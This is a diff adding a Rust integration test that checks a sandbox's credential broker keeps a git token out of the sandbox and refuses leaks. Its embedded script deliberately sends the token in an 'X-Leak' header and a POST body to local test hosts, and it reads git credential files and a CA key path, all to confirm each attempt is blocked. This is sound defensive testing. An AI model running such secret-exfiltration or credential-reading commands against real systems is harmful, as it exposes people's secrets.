@@ -1,0 +1,159 @@
+//! Brokered credentials (issue #38): a secret bound to its endpoints. A
+//! Docker sandbox with no network pushes to an https git remote on this
+//! machine (the real `git http-backend`, demanding the token) through the
+//! agent, which terminates the sandbox's TLS with its own CA and puts the
+//! token into git's basic auth; the token is nowhere in the sandbox, and
+//! the placeholder sent anywhere else is refused and recorded.
+
+use std::time::Duration;
+
+use sandhold_tests::docker::{DEBIAN_IMAGE, DockerCleanup, ensure_debian_image};
+use sandhold_tests::git_remote::{GitRemote, HostServer};
+use sandhold_tests::local::TestDir;
+use sandhold_tests::model::broker_server;
+use sandhold_tests::run::{Seen, command_run, put_definition, read_until};
+use shared::proto::v1 as api;
+
+use crate::broker::{as_run_user_beside_the_agent, assert_nowhere_in_the_sandbox, customs, exec};
+
+/// The run's script: push through the broker, then send the placeholder
+/// where it may not go (another header to the bound host, a header and a
+/// body to an allowed but unbound host), then wait for the test's scan.
+fn script(git_port: u16, other_port: u16) -> String {
+    format!(
+        r#"R=https://127.0.0.2:{git_port}/repo.git
+H='!f() {{ echo username=git; echo "password=$GH_TOKEN"; }}; f'
+cd /tmp && git -c credential.helper="$H" clone -q $R w 2>&1 && cd w \
+  && git -c user.email=t@example.test -c user.name=t commit -q --allow-empty -m pushed-through-the-broker \
+  && git -c credential.helper="$H" push -q origin HEAD:main 2>&1 && echo PUSHED
+git -c credential.helper="$H" -c http.extraHeader="X-Leak: $GH_TOKEN" ls-remote $R 2>&1 | grep -q 'error: 403' \
+  && echo OTHER-HEADER-REFUSED
+python3 - <<'PY'
+import os, urllib.request as u, urllib.error as e
+url = 'http://127.0.0.3:{other_port}/'
+for name, req in [('HEADER', u.Request(url, headers={{'X-Leak': os.environ['GH_TOKEN']}})),
+                  ('BODY', u.Request(url, data=('x=' + os.environ['GH_TOKEN']).encode(), method='POST'))]:
+    try:
+        print('UNBOUND-' + name + '-SERVED', u.urlopen(req, timeout=30).read().decode())
+    except e.HTTPError as x:
+        print('UNBOUND-' + name, x.code, x.read().decode())
+PY
+touch /tmp/pushed
+while [ ! -e /tmp/done ]; do sleep 0.2; done"#
+    )
+}
+
+#[tokio::test]
+async fn git_push_from_a_sandbox_without_network_authenticates_with_a_token_never_in_it() {
+    if !sandhold_tests::services::docker() {
+        return;
+    }
+    ensure_debian_image();
+    let s = broker_server("credentials").await;
+    let _cleanup = DockerCleanup { tenant: s.tenant.clone() };
+    let dir = TestDir::new("credentials");
+    let token = format!("ghp_{}", uuid::Uuid::new_v4().simple());
+    let remote = GitRemote::start(dir.path(), "127.0.0.2", &token);
+    let other = HostServer::start(dir.path(), "127.0.0.3", "served-to-the-sandbox");
+    let docker = api::DockerProvider { image: DEBIAN_IMAGE.into(), ..Default::default() };
+    let definition = api::SandboxDefinition {
+        id: "creds".into(),
+        provider: Some(api::ProviderSpec { provider: Some(api::provider_spec::Provider::Docker(docker)) }),
+        secret_names: vec!["GH_TOKEN".into()],
+        network: Some(api::Network {
+            allow_hosts: vec![format!("127.0.0.3:{}", other.port)],
+            extra_roots_pem: remote.ca_pem.clone(),
+            credentials: vec![api::NetworkCredential {
+                secret: "GH_TOKEN".into(),
+                hosts: vec![format!("127.0.0.2:{}", remote.port)],
+                basic: true,
+                ..Default::default()
+            }],
+            ..Default::default()
+        }),
+        ..Default::default()
+    };
+    let mut sandboxes = s.server.sandboxes(&s.token).await;
+    put_definition(&mut sandboxes, definition).await;
+    let mut runs = s.server.runs(&s.token).await;
+    let mut start = command_run(&format!("push-{}", s.nonce), "t", "creds", &script(remote.port, other.port));
+    start.secrets = [("GH_TOKEN".to_string(), token.clone())].into();
+    let mut stream = runs.start_run(start).await.unwrap().into_inner();
+
+    // Pushed and refused: the run waits for the scan.
+    let container = tokio::time::timeout(Duration::from_secs(120), async {
+        loop {
+            let list =
+                sandboxes.list_sandboxes(api::ListSandboxesRequest::default()).await.unwrap().into_inner();
+            if let Some(sandbox) = list.sandboxes.into_iter().find(|s| s.thread_id == "t") {
+                let pushed =
+                    exec(&mut sandboxes, &sandbox.sandbox_id, "test -e /tmp/pushed && echo yes", b"").await;
+                if pushed.trim() == "yes" {
+                    return sandbox;
+                }
+            }
+            tokio::time::sleep(Duration::from_millis(300)).await;
+        }
+    })
+    .await
+    .unwrap_or_else(|_| panic!("the run never finished pushing\n{}", s.server.log_text()));
+    let sandbox = container.sandbox_id.clone();
+    assert_nowhere_in_the_sandbox(&mut sandboxes, &container, &token, "GH_TOKEN=sandhold-credential-").await;
+    let git_own = "git config --global --list 2>&1; cat ~/.git-credentials ~/.config/git/credentials 2>&1; \
+                   git -C /tmp/w config --list 2>&1";
+    let git_config = as_run_user_beside_the_agent(&container.provider_sandbox_id, git_own);
+    assert!(!git_config.contains(&token), "{git_config}");
+    // The CA's key is the agent's alone.
+    let key = as_run_user_beside_the_agent(
+        &container.provider_sandbox_id,
+        "cat /run/sandhold/journal/egress-ca.key 2>&1 | head -c 200",
+    );
+    assert!(!key.contains("PRIVATE KEY"), "the run user reads the CA's key: {key}");
+    exec(&mut sandboxes, &sandbox, "touch /tmp/done", b"").await;
+
+    let mut seen = Seen::default();
+    read_until(&mut stream, &mut seen, |_| false)
+        .await
+        .unwrap_or_else(|e| panic!("{e:?}\n{}", s.server.log_text()));
+    let output: String = seen
+        .chunks
+        .iter()
+        .filter(|(_, c)| c.r#type() == api::ChunkType::TextMessageContent)
+        .map(|(_, c)| c.delta.as_str())
+        .collect();
+    let terminal = seen.terminal().expect("a terminal chunk");
+    assert_eq!(terminal.r#type(), api::ChunkType::RunFinished, "{output}\n{}", s.server.log_text());
+    assert!(output.contains("PUSHED"), "{output}\n{}", s.server.log_text());
+    assert_eq!(remote.subjects().trim(), "pushed-through-the-broker");
+    let requests = remote.requests();
+    assert!(requests.iter().any(|r| r["authorized"] == true && r["method"] == "POST"), "{requests:?}");
+    // Every request that carried credentials carried the real token: the
+    // placeholder never reached the remote, and nor did the leaking one.
+    assert!(
+        requests.iter().all(|r| r["authorized"] == true || r["sent_credentials"] == false),
+        "{requests:?}"
+    );
+    assert!(output.contains("OTHER-HEADER-REFUSED"), "{output}");
+    assert!(!output.contains("-SERVED"), "{output}");
+    assert!(output.contains("UNBOUND-HEADER 403"), "{output}");
+    assert!(output.contains("UNBOUND-BODY 502"), "{output}");
+    // Each refusal is on the run's record of its connections.
+    let network = customs(&seen, "sandbox.network");
+    let blocked = |port: u16| {
+        network.iter().any(|n| {
+            n["port"] == port
+                && n["allowed"] == false
+                && n["error"]
+                    .as_str()
+                    .is_some_and(|e| e.contains("blocked by the sandbox's agent") && e.contains("GH_TOKEN"))
+        })
+    };
+    assert!(blocked(remote.port), "{network:?}");
+    assert!(blocked(other.port), "{network:?}");
+    assert!(
+        network.iter().any(|n| n["port"] == remote.port
+            && n["allowed"] == true
+            && n["bytes_received"].as_u64() > Some(0)),
+        "{network:?}"
+    );
+}
